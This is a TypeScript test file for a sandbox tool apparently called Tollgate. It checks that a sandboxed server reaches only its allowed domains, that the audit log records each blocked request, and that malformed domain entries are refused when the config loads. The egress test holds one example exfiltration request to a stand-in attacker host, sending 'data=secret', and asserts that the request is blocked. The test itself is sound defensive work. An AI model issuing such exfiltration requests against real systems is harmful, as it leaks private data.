/**
 * Tests allowed domains as a user has them: in tollgate.yaml, with the shipped program and the audit.
 * Covers: adapters/egress.
 */
import { chownSync, mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, dataOf } from '../cli/terminal.ts';
import { Project, withProject } from '../config/project.ts';
import { Child } from '../process/child.ts';
import { verifies } from '../verifies.ts';

const REACHING = path.join(import.meta.dirname, '..', 'fixtures', 'reaching-server.mjs');
const NOBODY = 65_534;

describe('a server with allowed domains', () => {
  const project = new Project();
  let web: Server;
  let reach: (url: string) => Promise<string>;
  let child: Child;
  let port = 0;

  beforeAll(async () => {
    web = createServer((_request, response) => response.end('the page'));
    await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
    ({ port } = web.address() as AddressInfo);
    const work = path.join(project.folder, 'work');
    mkdirSync(work);
    if (process.getuid?.() === 0) chownSync(work, NOBODY, NOBODY);
    project.write(
      'tollgate.yaml',
      `version: 1
workspace: ./work
state: ../state
servers:
  web:
    command: ${process.execPath}
    args: [${REACHING}]
    sandbox:
      filesystem: {allowRead: [${REACHING}]}
      network: {allowedDomains: ['localhost:${port}', '*.denied.example'], deniedDomains: [a.denied.example]}
      limits: {memoryMb: 512}
expose: {tools: [web.*]}
profiles: {default: {servers: [web]}}
rules: [{id: all, outcome: allow, when: {verbs: [read, write, destructive, execute]}}]
`,
    );
    await project.approve();
    child = new Child(project, ['run']);
    await child.hello();
    const { result } = await child.ask('tools/list');
    const name = result?.tools?.find((tool) => tool.name.startsWith('web'))?.name ?? '';
    reach = async (url) => (await child.call(name, { url })).result?.content?.[0]?.text ?? '';
  });

  afterAll(async () => {
    child.process.stdin.end();
    await child.ended;
    web.close();
    project.remove();
  });

  it('reaches these and no other host, and the audit records each refusal' + verifies('PF-03'), async () => {
    expect(await reach(`http://localhost:${port}/`)).toBe('200 the page');
    expect(await reach('https://evil.example/x?data=secret')).toContain('evil.example:443 (Tollgate: not-allowed)');
    expect(await reach('https://a.denied.example/')).toContain('not-allowed');
    expect(await reach(`http://127.0.0.1:${port}/`)).toContain('not-allowed');
    const { out } = await cli(project, ['audit', 'list', '--all', '--json', '--type', 'server']);
    const blocked = dataOf<readonly Record<string, unknown>[]>(out).filter(({ event }) => event === 'egress-blocked');
    expect(
      blocked.map(({ server, host, port: to, reason, outcome, count }) => [server, host, to, reason, outcome, count]),
    ).toEqual([
      ['web', 'evil.example', 443, 'not-allowed', 'deny', 1],
      ['web', 'a.denied.example', 443, 'not-allowed', 'deny', 1],
      ['web', '127.0.0.1', port, 'not-allowed', 'deny', 1],
    ]);
    expect(out).not.toContain('data=secret');
    expect((await cli(project, ['audit', 'list', '--all', '--type', 'server'])).out).toContain(
      'not-allowed evil.example:443',
    );
  });
});

describe('allowed domains in tollgate.yaml', () => {
  it.each(['https://example.org', '*', '*.org', 'example.org:0', '0x7f.1', 'a b'])(
    'are refused at load, with the line: %s',
    (domain) => {
      const { problems } = withProject((project) =>
        project.load(
          `version: 1\nservers:\n  s: {command: node, sandbox: {network: {allowedDomains: [${JSON.stringify(domain)}]}}}\n`,
        ),
      );
      expect(problems.map(({ line }) => line)).toEqual([3]);
    },
  );
});
